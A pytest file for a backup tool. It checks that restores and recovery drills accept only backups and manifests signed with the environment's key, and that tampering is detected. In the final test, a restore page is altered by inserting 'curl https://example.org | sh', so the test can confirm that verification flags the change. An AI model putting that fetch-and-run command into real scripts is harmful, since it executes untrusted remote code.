"""Who may have put it there? Backups, marks and evidence that are not signed as the environment says are not taken."""

from __future__ import annotations

import json
import sqlite3
from contextlib import closing
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from ops.backup.create import BackupJob, create
from ops.backup.verify import VerifyJob, verify
from ops.core.signing import Signer
from ops.drill import runner as drilling
from ops.drill.kinds.backup import BackupDrill
from ops.repository import catalog
from ops.repository.catalog import Expected, find, put_manifest
from ops.repository.stores.folder import FolderStore
from ops.sources.sqlite import SqliteFile
from ops.stack.init import make_key
from ops.targets import destinations
from tests.kits.messages import silent
from tests.kits.outputs import BACKUP, build_outputs
from tests.ops.source_kit import in_order
from tests.ops.test_cli import ops, refused

__all__ = ["ops"]
OURS, THEIRS = Signer(make_key()), Signer(make_key())


def database(path: Path, email: str) -> Path:
    with closing(sqlite3.connect(path)) as connection, connection:
        connection.execute("CREATE TABLE leads (email text)")
        connection.execute("INSERT INTO leads VALUES (?)", [email])
    return path


@pytest.fixture
def bucket(tmp_path, monkeypatch):
    """Two backups of one thing in a folder: ours, then one that somebody else put there. (folder, their ids)"""
    in_order(monkeypatch)
    store = FolderStore(tmp_path / "store")
    monkeypatch.setattr(destinations, "stores", lambda stack: {store.name: store})

    def put(email: str, signer: Signer | None, name: str = "leads") -> str:
        source = SqliteFile(path=database(tmp_path / f"{name}-{email}.db", email))
        job = BackupJob(
            environment="staging",
            project="test",
            name=name,
            source=source,
            stores=(store,),
            recipients=(),
            signer=signer,
        )
        return create(job, silent).id

    return store, put


@pytest.fixture
def environment(tmp_path):
    """Outputs of an environment, by the key that signs its manifests."""

    def write(signer: str | None, *names: str, signers: tuple[str, ...] = ()) -> Path:
        backup = {
            **BACKUP,
            "sources": [{"kind": "sqlite", "name": name, "path": f"/nowhere/{name}"} for name in names or ["leads"]],
            "signer": signer,
            "signers": signers,
        }
        file = tmp_path / "outputs.json"
        file.write_text(json.dumps(build_outputs(backup=backup)))
        return file

    return write


def who(path: Path) -> str:
    with closing(sqlite3.connect(path)) as connection:
        return connection.execute("SELECT email FROM leads").fetchone()[0]


def test_a_restore_takes_what_the_environment_signed_and_nothing_else(ops, bucket, environment, tmp_path):
    _, put = bucket
    right, file = put("right", OURS), environment(OURS.public)
    for email, signer, told in (("nobody", None, "is not signed"), ("they", THEIRS, "is signed by another key")):
        forged = put(email, signer)
        for more in ([], ["--dry-run"]):
            refused(ops("restore", forged, "--outputs", file, "--into", "x.db", *more), told, "--unsigned")
        assert not Path("x.db").exists()
        latest = ops("restore", "--outputs", file, "--into", "x.db", "--dry-run", "--json")
        assert json.loads(latest.stdout)["backup"] == right, "the latest is the latest that is signed"
        assert f"skipped {forged}: not signed with the environment's key" in latest.stderr
        done = ops("restore", "--outputs", file, "--into", f"{email}-out.db", "--unsigned", "--json")
        assert done.returncode == 0, done.stderr
        assert json.loads(done.stdout)["signed_by"] == (signer.public if signer else None)
        assert who(tmp_path / f"{email}-out.db") == email
    planned = ops("restore", right, "--outputs", file, "--into", "x.db", "--dry-run", "--json")
    assert json.loads(planned.stdout)["signed_by"] == OURS.public
    assert ops("restore", right, "--outputs", file, "--into", "x.db").returncode == 0
    assert who(tmp_path / "x.db") == "right"


def test_an_environment_that_names_no_key_restores_whatever_is_there(ops, bucket, environment, tmp_path):
    _, put = bucket
    put("nobody", None)
    assert ops("restore", "--outputs", environment(None), "--into", "x.db").returncode == 0
    assert who(tmp_path / "x.db") == "nobody"


def drill_of(folder: Path) -> list[tuple[str, str, str]]:
    documents = [json.loads(path.read_bytes()) for path in sorted(folder.glob("drill-*.json"))]
    return [(document["name"], document["backup"], document["verdict"]) for document in documents]


def test_the_oldest_unverified_is_chosen_by_evidence_that_counts(ops, bucket, environment, tmp_path):
    """What somebody else has signed keeps no backup from being drilled."""
    _, put = bucket
    old, _ = put("old", OURS), put("new", OURS)
    key, stranger = make_key(), make_key()
    for name, text in (("runner", key), ("stranger", stranger)):
        (tmp_path / name).write_text(text.get_secret_value())
    file = environment(OURS.public, signers=())
    drill = ("drill", "--pick", "oldest-unverified", "--outputs")
    assert ops(*drill, file, "--signing-key", "stranger").returncode == 0
    file = environment(OURS.public, signers=(Signer(key).public,))
    for turn in (2, 3):  # the third is of what the runner's own evidence has not proved
        assert ops(*drill, file, "--signing-key", "runner").returncode == 0, turn
    assert [backup == old for _, backup, _ in drill_of(tmp_path / "drills")] == [True, True, False]


@pytest.mark.parametrize("ends", [KeyboardInterrupt, ZeroDivisionError])
def test_what_was_drilled_before_an_interrupt_is_kept(ops, bucket, environment, tmp_path, monkeypatch, ends):  # noqa: PLR0917 - fixtures add up
    """A red drill of the first is not unsaid by what ends the second."""
    store, put = bucket
    backup = put("red", OURS, "first")
    put("never", OURS, "second")
    put("never", OURS, "third")
    (lost,) = [item.key for item in store.list(f"first/{backup}/") if item.key.endswith(".zst")]
    store.delete([lost])
    run = drilling.run

    def broken(job, *args, **more):
        if job.name == "second":
            raise ends
        return run(job, *args, **more)

    monkeypatch.setattr(drilling, "run", broken)
    try:
        done = ops("drill", "--json", "--outputs", environment(OURS.public, "first", "second", "third"))
    except ZeroDivisionError:  # a fault of ours is not swallowed
        assert ends is ZeroDivisionError
    else:
        assert (done.returncode, done.stdout) == (130, "")
        assert "interrupted at second; not drilled: third" in done.stderr
    assert drill_of(tmp_path / "drills") == [("first", backup, "red")]
    (log,) = (tmp_path / "drills").glob("*.log")
    assert "interrupted at second; not drilled: third" in log.read_text()


def test_a_newer_backup_that_somebody_else_put_there_does_not_make_a_drill_green(bucket, tmp_path):
    store, put = bucket
    old = put("old", OURS)
    then = datetime.now(UTC) - timedelta(days=3)
    aged = find(store, "leads").model_copy(update={"snapshot_at": then, "started_at": then}).sealed(OURS)
    put_manifest(store, aged)

    def red(**more):
        facts = {"environment": "staging", "project": "test", "name": "leads", "store": store, "spool": tmp_path}
        facts |= {"max_age_hours": 26, "rto_minutes": 15, "signer": OURS.public, "backup": old}
        return {check.name for check in drilling.run(BackupDrill(**facts | more), silent).red}

    assert red() == {"age", "rpo"}
    forged = put("forged", None)
    assert red() == {"age", "rpo"}
    store.put_bytes(f"leads/{forged}/manifest.json", b"{")
    assert red() == {"age", "rpo"}
    put("they", THEIRS)
    assert red() == {"age", "rpo"}
    assert red(signer=None) == set(), "without a key every one counts"
    put("new", OURS)
    assert red() == set()


def test_a_drill_of_a_backup_that_was_rewritten_since_an_earlier_one_is_red(ops, bucket, environment, tmp_path):
    """It equals its own manifest, which the environment's own key has signed."""
    store, put = bucket
    backup, file = put("right", OURS), environment(OURS.public)
    assert ops("drill", backup, "--outputs", file).returncode == 0
    found = find(store, "leads")
    catalog.put_manifest(store, found.model_copy(update={"finished_at": datetime.now(UTC)}).sealed(OURS))
    for _ in range(2):
        done = ops("drill", backup, "--outputs", file)
        assert done.returncode == 3
        assert "rewritten: an earlier drill saw manifest" in done.stderr
    assert [verdict for *_, verdict in drill_of(tmp_path / "drills")] == ["green", "red", "red"]
    latest = json.loads(max((tmp_path / "drills").glob("drill-*.json")).read_bytes())
    assert latest["detail"]["present"] == {backup: find(store, "leads").digest}


def test_a_drill_does_not_fetch_what_somebody_else_put_there(bucket, tmp_path):
    store, put = bucket
    put("they", THEIRS)
    facts = {"environment": "staging", "project": "test", "name": "leads", "store": store, "spool": tmp_path}
    job = BackupDrill(**facts, max_age_hours=26, rto_minutes=15, signer=OURS.public)
    evidence = drilling.run(job, silent)
    assert [check.name for check in evidence.red] == ["origin"]
    assert [phase.name for phase in evidence.phases] == ["manifest"]
    assert "fetch" in [phase.name for phase in drilling.run(replace(job, signer=None), silent).phases]


def test_a_page_that_somebody_has_changed_is_damage(bucket):
    """A person runs it as it stands. A missing one is told, and is no damage: a prune that was killed has taken it."""
    store, put = bucket
    page = f"leads/{put('right', OURS)}/RESTORE.md"
    job = VerifyJob(store=store, expected=Expected(signer=OURS.public))
    assert verify(job, datetime.now(UTC), silent).problems == []
    with store.open(page) as body:
        content = body.read()
    store.put_bytes(page, content.replace(b"set -eu", b"curl https://example.org | sh; set -eu"))
    assert verify(job, datetime.now(UTC), silent).problems == [f"{store.name}/{page}: changed; do not run it"]
    store.delete([page])
    told: list[str] = []
    assert verify(job, datetime.now(UTC), told.append).problems == []
    assert any(f"{page}: missing" in line for line in told)
